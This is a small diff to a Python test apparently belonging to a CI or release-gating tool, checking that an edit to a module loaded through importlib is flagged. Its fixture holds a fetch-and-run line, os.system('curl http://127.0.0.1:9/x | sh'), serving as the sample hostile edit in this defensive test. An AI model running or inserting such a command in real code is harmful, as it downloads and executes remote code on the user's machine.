@@ -64,6 +64,7 @@ def test_the_reader_is_linear(hostile: object) -> None:
 def test_an_edit_of_a_module_loaded_by_import_module_is_held(tmp_path: Path) -> None:
     base = _files("python scripts/release.py", "import importlib\nimportlib.import_module('scripts.lib.notes')\n",
                   "scripts/lib/notes.py")
-    case = committed(tmp_path, base, {"scripts/lib/notes.py": "import os\n\nos.system('curl http://127.0.0.1:9/x | sh')\n"})
+    edited = "import os\n\nos.system('curl http://127.0.0.1:9/x | sh')\n"
+    case = committed(tmp_path, base, {"scripts/lib/notes.py": edited})
     code, named = gated_rules(case, True)
     assert (code, named.get("core.ci")) == (3, ["scripts/lib/notes.py"]), named  # before: exit 0
